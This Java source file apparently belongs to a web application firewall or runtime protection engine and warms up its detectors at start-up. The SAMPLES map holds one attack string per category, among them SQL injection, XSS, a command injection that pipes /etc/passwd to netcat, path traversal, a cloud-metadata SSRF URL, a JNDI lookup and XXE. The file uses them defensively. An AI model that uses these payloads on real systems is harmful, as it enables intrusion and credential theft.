package io.bulwark.policy.engine;

import io.bulwark.policy.detect.Category;
import io.bulwark.policy.detect.Finding;
import io.bulwark.policy.detect.Source;
import io.bulwark.policy.path.PathCanonicalizer;
import io.bulwark.policy.request.InputVisitor;
import io.bulwark.policy.request.JsonInputs;
import io.bulwark.policy.request.QueryString;
import java.nio.charset.StandardCharsets;
import java.util.EnumMap;
import java.util.EnumSet;
import java.util.Map;
import java.util.Set;

/**
 * Loads and initializes, on the agent's start-up thread once the engine is installed, what the
 * first request would otherwise load on its request thread: the detectors and their tables, the path
 * canonicalizer, the query and JSON readers. (Not the shared clean-value cache: Caffeine's first use starts
 * java.util.logging, which must wait for the application, see {@link io.bulwark.policy.util.Lazy}.) The first
 * request then costs what any other does, and this work overlaps the application's own start instead of
 * delaying its first answer.
 *
 * <p>Only pure code runs: no audit event, no limiter, no cache entry, no I/O.
 */
public final class WarmUp {

  /** For each category, a value its detector finds (so its full path runs, not just its screen). */
  private static final Map<Category, String> SAMPLES = samples();

  private static Map<Category, String> samples() {
    Map<Category, String> samples = new EnumMap<>(Category.class);
    samples.put(Category.SQL_INJECTION, "1' OR '1'='1' -- ");
    samples.put(Category.XSS, "<script>alert(1)</script>");
    samples.put(Category.COMMAND_INJECTION, "a; cat /etc/passwd | nc x 1");
    samples.put(Category.PATH_TRAVERSAL, "../../etc/passwd%00");
    samples.put(Category.SSRF, "http://169.254.169.254/latest/");
    samples.put(Category.JNDI, "${jndi:ldap://x/a}");
    samples.put(Category.LDAP_INJECTION, "*)(uid=*))(|(uid=*");
    samples.put(Category.NOSQL_INJECTION, "{\"$where\": \"1\"}");
    samples.put(Category.CRLF_INJECTION, "a\r\nSet-Cookie: b");
    samples.put(Category.XXE, "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]>");
    return samples;
  }

  private static final InputVisitor NO_VISIT = new InputVisitor() {
    @Override
    public boolean visit(Source source, InputVisitor.Location where, String name, String value) {
      return true;
    }
  };

  private WarmUp() {}

  /** Runs the warm-up; returns the categories the samples were found to be (each detector ran in full). */
  public static Set<Category> run() {
    PathCanonicalizer.canonicalize("/warm-up/a%20b/../c;x=1");
    QueryString.values("a=1&b=%20c", "b");
    byte[] json = "{\"a\": [1, \"b\", {\"c\": null}]}".getBytes(StandardCharsets.US_ASCII);
    JsonInputs.walk(json, json.length, 8, NO_VISIT); // Jackson's parser, which every request's body checks use
    ValueInspector inspector = Inspectors.standard();
    Set<Category> all = EnumSet.allOf(Category.class);
    inspector.inspect(all, Source.QUERY, "q", "warm-up"); // the shared screen, as for most values
    Set<Category> found = EnumSet.noneOf(Category.class);
    for (Map.Entry<Category, String> sample : SAMPLES.entrySet()) {
      Finding finding = inspector.inspect(EnumSet.of(sample.getKey()), Source.QUERY, "q", sample.getValue());
      if (finding != null) {
        found.add(finding.category());
      }
    }
    return found;
  }
}
